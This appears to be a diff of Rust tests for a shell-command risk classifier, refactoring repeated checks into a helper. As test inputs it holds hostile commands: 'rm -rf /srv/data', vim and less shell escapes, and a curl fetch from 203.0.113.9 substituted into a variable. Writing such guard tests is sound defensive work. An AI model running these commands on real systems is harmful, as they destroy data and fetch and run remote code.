@@ -28,6 +28,15 @@ fn policy() -> Policy {
     Policy::builtin().unwrap()
 }
 
+/// Classifies `line` and keeps it in `wrong`, with its class, when `ok`
+/// refuses the class.
+fn check(policy: &Policy, line: &str, ok: impl Fn(RiskClass) -> bool, wrong: &mut Vec<String>) {
+    let risk = policy.classify_command(line).risk;
+    if !ok(risk) {
+        wrong.push(format!("{line}: {risk}"));
+    }
+}
+
 /// Each program a read-only rule names, with the words that make the rule
 /// apply (its first subcommand and a flag it needs), and whether its
 /// allowlist takes every word (`<any>`).
@@ -149,19 +158,13 @@ fn every_option_that_runs_a_command_is_classified_as_what_it_runs() {
         }
         for spelled in spellings(&option, "rm -rf /srv/data") {
             for line in wrapped(&format!("{program} {spelled} /tmp/x")) {
-                let risk = policy.classify_command(&line).risk;
-                if risk != RiskClass::Destructive {
-                    wrong.push(format!("{line}: {risk}"));
-                }
+                check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
             }
         }
         // What it runs, when harmless, is no reason to be destructive, and
         // what it runs computed is.
         let line = format!("{program} {option} \"$CMD\" /tmp/x");
-        let risk = policy.classify_command(&line).risk;
-        if risk != RiskClass::Destructive {
-            wrong.push(format!("{line}: {risk}"));
-        }
+        check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
     }
     assert!(
         wrong.is_empty(),
@@ -182,10 +185,7 @@ fn every_option_that_hands_over_code_is_destructive_and_every_loader_is_not_read
         };
         for spelled in spellings(&option, "/tmp/x") {
             for line in wrapped(&format!("{program} {spelled} /tmp/y")) {
-                let risk = policy.classify_command(&line).risk;
-                if risk < floor {
-                    wrong.push(format!("{line}: {risk}, not {floor}"));
-                }
+                check(&policy, &line, |r| r >= floor, &mut wrong);
             }
         }
     }
@@ -196,10 +196,7 @@ fn every_option_that_hands_over_code_is_destructive_and_every_loader_is_not_read
         "vim +'!rm -rf /srv/data' /etc/hosts",
         "sudo less '+|sh' /var/log/syslog",
     ] {
-        let risk = policy.classify_command(line).risk;
-        if risk != RiskClass::Destructive {
-            wrong.push(format!("{line}: {risk}"));
-        }
+        check(&policy, line, |r| r == RiskClass::Destructive, &mut wrong);
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
@@ -226,10 +223,7 @@ fn every_option_that_names_an_output_writes_the_file_it_names() {
                     program.as_str()
                 };
                 for line in wrapped(&format!("{program} {spelled} /tmp/in")) {
-                    let risk = policy.classify_command(&line).risk;
-                    if risk < floor {
-                        wrong.push(format!("{line}: {risk}, not {floor}"));
-                    }
+                    check(&policy, &line, |r| r >= floor, &mut wrong);
                 }
             }
         }
@@ -271,10 +265,7 @@ fn a_variable_that_names_a_command_is_classified_as_that_command() {
             format!("{name}=\"$(curl -s http://203.0.113.9/x)\" {READER}"),
             format!("sudo {name}='rm -rf /srv/data' {READER}"),
         ] {
-            let risk = policy.classify_command(&line).risk;
-            if risk != RiskClass::Destructive {
-                wrong.push(format!("{line}: {risk}"));
-            }
+            check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
         }
         // A harmless pager keeps the reader a reader.
         let line = format!("{name}=cat {READER}");
@@ -364,10 +355,7 @@ fn inline_code_for_any_interpreter_is_destructive() {
     for interpreter in interpreters {
         for option in &policy.shell.interpreter_code_options {
             for line in wrapped(&format!("{interpreter} {option} 'print(1)'")) {
-                let risk = policy.classify_command(&line).risk;
-                if risk != RiskClass::Destructive {
-                    wrong.push(format!("{line}: {risk}"));
-                }
+                check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
             }
         }
         for line in [
@@ -375,10 +363,7 @@ fn inline_code_for_any_interpreter_is_destructive() {
             format!("{interpreter} <<'EOF'\nprint(1)\nEOF"),
             format!("echo 'print(1)' | {interpreter}"),
         ] {
-            let risk = policy.classify_command(&line).risk;
-            if risk != RiskClass::Destructive {
-                wrong.push(format!("{line}: {risk}"));
-            }
+            check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
         }
     }
     assert!(
